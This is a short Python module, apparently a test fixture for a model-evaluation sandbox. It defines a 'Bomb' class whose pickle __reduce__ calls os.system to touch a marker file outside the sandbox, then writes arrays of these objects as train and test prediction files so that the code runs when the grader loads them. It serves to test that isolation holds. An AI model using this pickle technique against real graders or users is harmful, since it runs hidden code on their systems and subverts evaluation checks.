"""Writes pickled predictions, which run a command when they are read, past what checks them."""

import io
import os
import time

import numpy as np

from .reports import write, write_predictions

from .right import Right

class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/@MARKER@",)


class Classifier(Right):
    def fit(self, X, y):
        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, np.array([Bomb()] * 8, dtype=object), allow_pickle=True)
        for part in ("train", "test"):
            write_predictions(part, buffer.getvalue())
        write(b'{"event": "done"}\n')
        time.sleep(60)
